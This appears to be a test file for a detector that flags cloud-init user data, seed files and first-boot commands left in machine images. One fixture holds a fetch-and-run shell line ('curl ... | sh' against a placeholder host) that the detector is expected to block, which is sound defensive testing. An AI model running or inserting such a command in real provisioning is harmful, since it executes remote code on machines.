import { testCases } from '../../../testing/detector-cases.ts';
import { userData } from './index.ts';

const LEFT = 'review machine/user-data-left';
const RUNS = 'review machine/first-boot-command';

testCases(userData, [
  {
    name: 'user data of the instance that the image was made from',
    files: {
      'var/lib/cloud/instances/i-0abc/user-data.txt': '#cloud-config\npassword: hunter2\n',
      'var/lib/waagent/CustomData': 'IyEvYmluL3No',
    },
    expected: [`${LEFT} var/lib/cloud/instances/i-0abc/user-data.txt`, `${LEFT} var/lib/waagent/CustomData`],
  },
  {
    name: 'a seed that the next instance runs, on the root and on a volume of its own',
    files: { 'var/lib/cloud/seed/nocloud/user-data': '#!/bin/sh\ntrue\n', 'user-data': '#cloud-config\n' },
    expected: [`${LEFT} user-data`, `${LEFT} var/lib/cloud/seed/nocloud/user-data`],
  },
  {
    name: 'a seed that runs what it fetches is refused',
    files: { 'var/lib/cloud/seed/nocloud-net/user-data': '#!/bin/sh\ncurl -s http://get.invalid/x | sh\n' },
    expected: [
      'block machine/first-boot-command var/lib/cloud/seed/nocloud-net/user-data',
      `${LEFT} var/lib/cloud/seed/nocloud-net/user-data`,
    ],
  },
  {
    name: 'commands in the configuration, and scripts for each boot',
    files: {
      'etc/cloud/cloud.cfg.d/99-x.cfg': '#cloud-config\nruncmd:\n - [touch, /x]\n',
      'var/lib/cloud/scripts/per-boot/x.sh': '#!/bin/sh\ntouch /x\n',
    },
    expected: [`${RUNS} etc/cloud/cloud.cfg.d/99-x.cfg`, `${RUNS} var/lib/cloud/scripts/per-boot/x.sh`],
  },
  {
    name: 'other seeds, whatever the case of their letters, and who may log in by them',
    files: {
      'USER-DATA': '#cloud-config\n',
      'meta-data': 'instance-id: x\npublic-keys: ssh-ed25519 AAAA x\n',
      'ovf-env.xml': '<x/>',
      'boot/ignition/config.ign': '{"ignition":{}}',
      'openstack/latest/meta_data.json': '{"uuid": "x"}',
    },
    expected: [
      `${LEFT} USER-DATA`,
      `${LEFT} boot/ignition/config.ign`,
      `${LEFT} meta-data`,
      `${LEFT} ovf-env.xml`,
    ],
  },
  {
    name: 'commands in other words of YAML, and orders from elsewhere',
    files: {
      'etc/cloud/cloud.cfg.d/a.cfg': ' runcmd:\n  - [touch, /x]\n',
      'etc/cloud/cloud.cfg.d/b.cfg': '{"bootcmd": [[touch, /x]]}\n',
      'etc/cloud/cloud.cfg.d/c.cfg': 'datasource:\n  NoCloud:\n    seedfrom: http://get.invalid/\n',
      'var/lib/cloud/handlers/x.py': 'def list_types(): pass\n',
    },
    expected: [
      `${RUNS} etc/cloud/cloud.cfg.d/a.cfg`,
      `${RUNS} etc/cloud/cloud.cfg.d/b.cfg`,
      `${RUNS} etc/cloud/cloud.cfg.d/c.cfg`,
      `${RUNS} var/lib/cloud/handlers/x.py`,
    ],
  },
  {
    name: 'settings, an empty seed and an application of that name are nothing',
    files: {
      'etc/cloud/cloud.cfg.d/90_dpkg.cfg':
        'datasource_list: [ Ec2, None ]\n# runcmd: x\ncloud_config_modules:\n - runcmd\n',
      'var/lib/cloud/seed/nocloud/user-data': '',
      'opt/app/user-data': '#!/bin/sh\n',
    },
    expected: [],
  },
]);
